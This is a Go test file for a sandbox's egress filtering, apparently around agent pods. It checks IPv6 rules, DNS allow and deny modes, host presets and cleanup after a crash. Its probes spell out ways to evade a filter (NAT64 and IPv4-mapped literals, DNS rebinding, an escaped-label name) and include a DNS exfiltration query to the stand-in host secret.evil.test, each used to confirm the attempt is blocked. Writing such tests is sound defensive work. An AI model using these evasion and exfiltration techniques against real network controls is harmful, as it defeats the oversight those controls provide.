	for _, want := range [][]string{{"addr:" + web, "port:9999"}, {"addr:" + web, "port:443"}, {"addr:" + web, "port:123"},
		{"addr:" + web6, "port:9999"}, {"addr:" + web, "port:5353"}} {
		e.wantAudit(evs, "net.drop", "deny", append(want, "proto:udp")...)
	}
}

// IPv6 goes through the same checks as IPv4: an allowed name with an AAAA
// record works through the proxy and around it; IPv6 literals in every
// form, and an allowed name sent to an IPv6 address it does not have, are
// refused and audited.
func TestNetIPv6(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test", "*.allowed.test")
	e.must("init", np)
	web, web6 := n.web.String(), n.web6.String()
	got := e.runProbes(np, fmt.Sprintf(`
c v6-proxy http://v6.allowed.test/
c v6-proxy-https --cacert ca.pem https://v6.allowed.test/
c v6-direct --noproxy '*' http://v6.allowed.test/
c v6-direct-https --noproxy '*' --cacert ca.pem https://v6.allowed.test/
c v6-lit-direct --noproxy '*' http://[%[2]s]/
c v6-lit-proxy http://[%[2]s]/
p v6-lit-connect pconnect [%[2]s]:443
p v6-mapped-connect pconnect [::ffff:%[1]s]:80
p v6-compat-connect pconnect [::%[1]s]:80
p v6-nat64-connect pconnect [64:ff9b::%[1]s]:80
p v6-nat64-direct direct 64:ff9b::%[1]s 80 allowed.test
p v6-wrong-name direct %[2]s 80 allowed.test
p v6-loop-connect pconnect [::1]:80
p v6-linklocal direct fe80::1%%lo 80 v6.allowed.test
`, web, web6))
	for _, l := range []string{"v6-proxy", "v6-direct"} {
		wantOK(t, got, l, "hello v6.allowed.test from web")
	}
	for _, l := range []string{"v6-proxy-https", "v6-direct-https"} {
		wantOK(t, got, l, "hello v6.allowed.test from web")
	}
	wantCurlFail(t, got, "v6-lit-direct")
	wantCurlFail(t, got, "v6-lit-proxy")
	for _, l := range []string{"v6-lit-connect", "v6-mapped-connect", "v6-compat-connect", "v6-nat64-connect", "v6-loop-connect"} {
		wantProbeFail(t, got, l)
		if !strings.Contains(got[l], "403") {
			t.Errorf("%s: CONNECT should be answered 403, got %q", l, got[l])
		}
	}
	for _, l := range []string{"v6-nat64-direct", "v6-wrong-name", "v6-linklocal"} {
		wantProbeFail(t, got, l)
	}
	evs := e.audit(np)
	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "host:v6.allowed.test", "addr:"+web6)
	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:v6.allowed.test", "addr:"+web6)
	e.wantAudit(evs, "net.dns", "allow", "name:v6.allowed.test", web6)
	e.wantAudit(evs, "net.leak", "deny", "addr:"+web6, "host:allowed.test")
	e.wantAudit(evs, "net.leak", "deny", "addr:64:ff9b::", "host:allowed.test")
	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+web6)
	e.wantAudit(evs, "net.leak", "deny", "addr:fe80::1", "link-local")
	for _, lit := range []string{web6, "::ffff:" + web, "::" + web, "64:ff9b::" + web, "::1"} {
		e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:"+lit)
	}
}

// The DNS modes: deny (everything but the deny list), monitor (everything,
// logged) and allow with a wildcard (subdomains only). In each, names the
// policy refuses never reach the authoritative server, and IP literals and
// names that resolve to private addresses stay refused.
func TestNetDNSModes(t *testing.T) {
	for _, tc := range []struct {
		mode, extra     string
		allow           []string
		works, refused  []string // names reached over http, through the proxy and around it
		forwarded, kept []string // names the authoritative server must / must not see
	}{
		{mode: "deny", extra: "  deny: [evil.test, \"*.evil.test\"]\n",
			works: []string{"open.test", "allowed.test"}, refused: []string{"evil.test", "x.evil.test"},
			forwarded: []string{"open.test"}, kept: []string{"evil.test", "secret.evil.test"}},
		{mode: "monitor", works: []string{"open.test", "evil.test"}, forwarded: []string{"evil.test"}},
		{mode: "allow", allow: []string{"*.allowed.test"},
			works: []string{"www.allowed.test"}, refused: []string{"allowed.test", "open.test"},
			forwarded: []string{"www.allowed.test"}, kept: []string{"open.test", "secret.evil.test"}},
	} {
		t.Run(tc.mode, func(t *testing.T) {
			e := newEnv(t)
			n := newInet(t)
			e.netConfigDNS(n, tc.mode, tc.extra, tc.allow...)
			e.must("init", np)
			var script strings.Builder
			for _, name := range append(append([]string{}, tc.works...), tc.refused...) {
				fmt.Fprintf(&script, "c proxy-%[1]s http://%[1]s/\nc direct-%[1]s --noproxy '*' http://%[1]s/\n", name)
			}
			fmt.Fprintf(&script, "p exfil dnsq 127.0.0.1 udp secret.evil.test\n")
			// One label "escaped.allowed" under "test": no subdomain of
			// allowed.test, however its presentation form ends.
			fmt.Fprintf(&script, "p escaped dnsl 127.0.0.1 'escaped.allowed|test'\n")
			fmt.Fprintf(&script, "c literal --noproxy '*' http://%s/\nc rebind http://meta.allowed.test/\n", n.web)
			got := e.runProbes(np, script.String())
			for _, name := range tc.works {
				wantOK(t, got, "proxy-"+name, "hello "+name+" from web")
				wantOK(t, got, "direct-"+name, "hello "+name+" from web")
			}
			for _, name := range tc.refused {
				wantCurlFail(t, got, "proxy-"+name)
				wantCurlFail(t, got, "direct-"+name)
			}
			wantCurlFail(t, got, "literal")
			wantCurlFail(t, got, "rebind")
			seen := n.Queries()
			for _, name := range tc.forwarded {
				if !contains(seen, name+".") {
					t.Errorf("the authoritative server was not asked %s: %v", name, seen)
				}
			}
			if !strings.Contains(got["escaped"], "rcode=3") {
				t.Errorf("escaped: a name with a dot inside a label: want NXDOMAIN, got %q", got["escaped"])
			}
			for _, name := range append(tc.kept, "escaped") {
				for _, q := range seen {
					if strings.Contains(q, name) {
						t.Errorf("SECURITY: the authoritative server was asked %s in mode %s", q, tc.mode)
					}
				}
			}
			evs := e.audit(np)
			for _, name := range tc.works {
				e.wantAudit(evs, "net.dns", "allow", "name:"+name)
				e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:"+name)
			}
			for _, name := range tc.refused {
				e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+name)
			}
			if tc.mode == "monitor" {
				e.wantAudit(evs, "net.dns", "allow", "name:secret.evil.test", "monitor")
			} else {
				e.wantAudit(evs, "net.dns", "deny", "name:secret.evil.test")
			}
		})
	}
}

// Presets name the hosts an agent needs: a pod with the anthropic and npm
// presets forwards their names (to the test's own upstream, which knows
// none of them) and refuses a name no preset lists, without asking.
func TestNetPresets(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "  presets: [anthropic, npm]\n", "allowed.test")
	e.must("init", np)
	got := e.runProbes(np, `
p anthropic dnsq 127.0.0.1 udp api.anthropic.com
p npm dnsq 127.0.0.1 udp registry.npmjs.org
p openai dnsq 127.0.0.1 udp api.openai.com
`)
	for _, l := range []string{"anthropic", "npm", "openai"} {
		if !strings.Contains(got[l], "rcode=3") {
			t.Errorf("%s: want NXDOMAIN (the test upstream knows no real name), got %q", l, got[l])
		}
	}
	seen := strings.Join(n.Queries(), " ")
	for _, name := range []string{"api.anthropic.com.", "registry.npmjs.org."} {
		if !strings.Contains(seen, name) {
			t.Errorf("preset name %s was not forwarded: %s", name, seen)
		}
	}
	if strings.Contains(seen, "openai") {
		t.Errorf("SECURITY: api.openai.com, in no preset, was forwarded")
	}
	evs := e.audit(np)
	e.wantAudit(evs, "net.dns", "allow", "name:api.anthropic.com")
	e.wantAudit(evs, "net.dns", "deny", "name:api.openai.com")
	var pol struct{ Presets []string }
	if err := json.Unmarshal([]byte(e.must("net", np, "ls", "--json").stdout), &pol); err != nil {
		t.Fatal(err)
	}
	if !contains(pol.Presets, "anthropic") || !contains(pol.Presets, "npm") {
		t.Errorf("net ls --json presets: %v", pol.Presets)
	}
}

// A supervisor killed with SIGKILL leaves nothing of the network wall on
// the host: no link, no network namespace, no nftables table, no published
// port, no process of the pod; the pod runs again afterwards.
func TestNetSupervisorKilled(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test")
	e.must("init", np)
	before := hostNetState(t)
	port := freePort(t)
	marker := fmt.Sprintf("airlock-e2e-%d", rand.Int64())
	r := e.start("run", np, "-T", "-p", fmt.Sprintf("%d:8080", port), "--", "sh", "-c",
		`/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & curl -fsS http://allowed.test/; cat`, marker)
	if got := r.next(); !strings.Contains(got, "hello allowed.test") {
		t.Fatalf("the pod's network did not work before the kill: %q", got)
	}
	waitFor(t, func() bool {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second)
		if err == nil {
			c.Close()
		}
		return err == nil
	})
	if len(processesWith(marker)) == 0 {
		t.Fatalf("no process of the pod carries the marker %s", marker)
	}
	if err := r.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	<-r.done
	r.stdin = nil // nothing left to stop
	waitFor(t, func() bool { return len(processesWith(marker)) == 0 })
	if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second); err == nil {
		c.Close()
		t.Errorf("port %d still published after the supervisor was killed", port)
	}
	if after := hostNetState(t); after != before {
		t.Errorf("the host's network changed:\nbefore: %s\nafter:  %s", before, after)
	}
	got := e.runProbes(np, "c again http://allowed.test/\n")
	wantOK(t, got, "again", "hello allowed.test from web")
}

// hostNetState describes what a pod could leave on the host's network:
// links, named network namespaces and nftables tables. The links of test
// internets (alnt*, and nwt* of the netwall package's tests, which may run
// at the same time) come and go on their own and are left out.
func hostNetState(t *testing.T) string {
	t.Helper()
	links, err := netlink.LinkList()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString("links:")
	for _, l := range links {
		if name := l.Attrs().Name; !strings.HasPrefix(name, "alnt") && !strings.HasPrefix(name, "nwt") {
			b.WriteString(" " + name)
		}
	}
	b.WriteString(" netns:")
	if ents, err := os.ReadDir("/run/netns"); err == nil {
		for _, e := range ents {
			b.WriteString(" " + e.Name())
		}
	}
	b.WriteString(" nft:")
	c, err := nftables.New()
	if err != nil {
		t.Fatal(err)
	}
	tables, err := c.ListTables()
	if err != nil {
		t.Fatal(err)
	}
	for _, tb := range tables {
		fmt.Fprintf(&b, " %d/%s", tb.Family, tb.Name)
	}
	return b.String()
}

// processesWith lists the pids whose command line contains marker.
func processesWith(marker string) []string {
	ents, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range ents {
		cmdline, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(cmdline), marker) {
			out = append(out, e.Name())
		}
	}
	return out
}

// BenchmarkNetStartup is what the network wall costs a pod's start, end to
// end: warm `airlock run POD -- true` in network modes host (no wall),
// none (own namespace, lo only) and filtered (rules, drop log, resolver
// and proxy), the three interleaved so that drift hits all alike.
func BenchmarkNetStartup(b *testing.B) {
	modes := []string{"host", "none", "filtered"}
	pods := map[string]*benchPod{}
	for _, m := range modes {
		pods[m] = newBenchPod(b, "version: 1\nnetwork:\n  mode: "+m+"\n")
		pods[m].inPod("true") // warm: the pod exists, its layer is built
	}
	durs := map[string][]float64{}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, m := range modes {
			start := time.Now()
			pods[m].inPod("true")
			durs[m] = append(durs[m], float64(time.Since(start).Microseconds())/1000)
		}
	}
	for _, m := range modes {
		b.ReportMetric(median(durs[m]), m+"-ms")
	}
	b.ReportMetric(median(durs["filtered"])-median(durs["none"]), "filtered-minus-none-ms")
}
